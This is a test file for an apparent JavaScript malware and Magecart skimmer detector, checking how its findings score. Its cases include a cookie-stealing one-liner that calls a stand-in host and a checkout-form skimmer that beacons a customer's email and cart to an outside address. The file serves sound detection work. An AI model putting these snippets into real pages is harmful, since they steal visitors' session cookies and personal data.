import { expect, test } from 'vitest'
import { analyse } from './analysis.ts'
import { conceptValues } from './concepts.ts'
import { gatherEvidence } from './evidence.ts'
import { matchRules, RULE_NAMES, ruleValues } from './rules.ts'

/** The features that are not 0, without those of single rules. */
function summaryOf(source: string): Readonly<Record<string, number>> {
  const analysis = analyse(source)
  const values = ruleValues(matchRules(gatherEvidence(analysis, conceptValues(analysis), [])))
  expect(values.length).toBe(RULE_NAMES.length)
  return Object.fromEntries(
    RULE_NAMES.flatMap((name, i) => {
      const value = values[i] ?? 0
      return value === 0 || name.startsWith('rule ') ? [] : [[name, value]]
    }),
  )
}

test.each<[name: string, source: string, expected: Readonly<Record<string, number>>]>([
  ['nothing', `document.title='a'`, {}],
  [
    'a conclusive finding of its class',
    `new Image().src='//a.example/?c='+document.cookie`,
    { 'findings of malware': 1, findings: 0.25 },
  ],
  [
    'a suggestive finding counts half',
    `document.querySelector('#checkout_email').addEventListener('blur',function(){if(this.checkValidity())navigator.sendBeacon('https://carts.mail.example/left',JSON.stringify({email:this.value,cart:window.CART}))})`,
    { 'findings of magecart': 0.5, findings: 0.25 },
  ],
])('findings as features of the model: %s', (_, source, expected) => {
  expect(summaryOf(source)).toEqual(expected)
})
